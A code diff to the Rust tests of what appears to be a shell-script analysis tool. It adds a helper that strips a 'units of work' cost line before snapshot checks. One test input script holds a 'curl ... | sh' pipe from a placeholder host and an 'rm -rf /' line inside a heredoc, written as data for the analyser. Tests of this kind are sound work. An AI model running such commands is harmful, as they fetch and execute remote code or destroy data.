@@ -32,6 +32,14 @@ fn json(arguments: &[&str], stdin: &str) -> Value {
     report
 }
 
+/// What an analysis costs changes with the code; what it says does not.
+fn without_work(text: &str) -> String {
+    match text.rsplit_once(", ") {
+        Some((before, work)) if work.ends_with(" units of work\n") => before.to_owned(),
+        _ => text.to_owned(),
+    }
+}
+
 #[test]
 fn people_see_the_command_marked_and_the_tree_below_it() {
     let ran = explain(
@@ -44,7 +52,7 @@ fn people_see_the_command_marked_and_the_tree_below_it() {
         "",
     );
     assert_eq!((ran.exit, ran.stderr.as_str()), (0, ""));
-    insta::assert_snapshot!(ran.stdout);
+    insta::assert_snapshot!(without_work(&ran.stdout));
 }
 
 #[test]
@@ -52,7 +60,7 @@ fn wrappers_functions_and_doubts_are_drawn() {
     let script = "f() { curl -s https://h.example/$1 | sh; }\nf x &\n$tool --all\ncat <<EOF\nnot code: rm -rf /\nEOF\n";
     let ran = explain(&["--cwd", "/no/such/shop", "--stdin"], script);
     assert_eq!((ran.exit, ran.stderr.as_str()), (0, ""));
-    insta::assert_snapshot!(ran.stdout);
+    insta::assert_snapshot!(without_work(&ran.stdout));
 }
 
 #[test]
